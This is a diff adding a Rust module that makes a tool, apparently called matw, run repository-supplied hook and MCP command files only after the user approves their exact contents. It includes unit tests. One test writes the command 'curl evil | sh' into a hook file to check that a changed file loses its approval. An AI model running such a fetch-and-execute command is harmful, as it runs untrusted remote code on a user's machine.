@@ -0,0 +1,133 @@
+//! Approval of project config that runs commands
+//!
+//! Files such as `<project>/.matw/hooks.toml` and `<project>/.matw/mcp.toml`
+//! come with the repository and name commands matw would run, so they are only used once the user has
+//! approved them. An approval covers the file's exact contents: after any
+//! change the file needs approving again. Approvals are kept in
+//! `~/.matw/trusted.json`.
+
+use crate::error::Result;
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+
+/// Name of the approvals file in `~/.matw/`
+pub const TRUST_FILE: &str = "trusted.json";
+
+/// Files in `<project>/.matw/` that run commands and need approval
+pub const COMMAND_FILES: &[&str] = &["hooks.toml", "mcp.toml"];
+
+/// An approved file and the contents it was approved with
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct ApprovedFile {
+    path: PathBuf,
+    content: String,
+}
+
+/// The project files the user has approved
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TrustStore {
+    #[serde(default)]
+    approved: Vec<ApprovedFile>,
+}
+
+impl TrustStore {
+    /// Load approvals, or none if the file does not exist
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        let content = std::fs::read_to_string(path)?;
+        Ok(serde_json::from_str(&content)?)
+    }
+
+    /// Load the user's approvals from `~/.matw/trusted.json`
+    pub fn load_user() -> Result<Self> {
+        match user_trust_file() {
+            Some(path) => Self::load(&path),
+            None => Ok(Self::default()),
+        }
+    }
+
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        std::fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    /// The contents of `file` if it exists and they are what the user approved
+    pub fn read_approved(&self, file: &Path) -> Option<String> {
+        let content = std::fs::read_to_string(file).ok()?;
+        let path = canonical(file);
+        self.approved
+            .iter()
+            .any(|approved| approved.path == path && approved.content == content)
+            .then_some(content)
+    }
+
+    /// Approve `file` with these contents, the ones the user was shown,
+    /// replacing an earlier approval
+    pub fn approve(&mut self, file: &Path, content: String) {
+        let path = canonical(file);
+        self.approved.retain(|approved| approved.path != path);
+        self.approved.push(ApprovedFile { path, content });
+    }
+
+    /// The project's command files that exist but are not approved as they are
+    pub fn unapproved(&self, project_dir: &Path) -> Vec<PathBuf> {
+        COMMAND_FILES
+            .iter()
+            .map(|name| project_dir.join(".matw").join(name))
+            .filter(|file| file.exists() && self.read_approved(file).is_none())
+            .collect()
+    }
+}
+
+/// `~/.matw/trusted.json`, if there is a home directory
+pub fn user_trust_file() -> Option<PathBuf> {
+    dirs::home_dir().map(|home| home.join(".matw").join(TRUST_FILE))
+}
+
+fn canonical(path: &Path) -> PathBuf {
+    path.canonicalize().unwrap_or_else(|_| path.to_path_buf())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_approval_covers_exact_contents() {
+        let temp = tempfile::tempdir().unwrap();
+        let file = temp.path().join(".matw").join("hooks.toml");
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(&file, "[[hooks]]").unwrap();
+
+        let mut trust = TrustStore::default();
+        assert_eq!(trust.unapproved(temp.path()), vec![file.clone()]);
+        assert!(trust.read_approved(&file).is_none());
+
+        trust.approve(&file, "[[hooks]]".to_string());
+        assert_eq!(trust.read_approved(&file).as_deref(), Some("[[hooks]]"));
+        assert!(trust.unapproved(temp.path()).is_empty());
+
+        std::fs::write(&file, "[[hooks]]\ncommand = \"curl evil | sh\"").unwrap();
+        assert!(trust.read_approved(&file).is_none());
+        assert_eq!(trust.unapproved(temp.path()), vec![file]);
+    }
+
+    #[test]
+    fn test_save_and_load() {
+        let temp = tempfile::tempdir().unwrap();
+        let file = temp.path().join("hooks.toml");
+        std::fs::write(&file, "[[hooks]]").unwrap();
+        let mut trust = TrustStore::default();
+        trust.approve(&file, "[[hooks]]".to_string());
+
+        let path = temp.path().join("home").join(TRUST_FILE);
+        trust.save(&path).unwrap();
+        assert!(TrustStore::load(&path).unwrap().read_approved(&file).is_some());
+        assert!(TrustStore::load(&temp.path().join("missing.json")).unwrap().read_approved(&file).is_none());
+    }
+}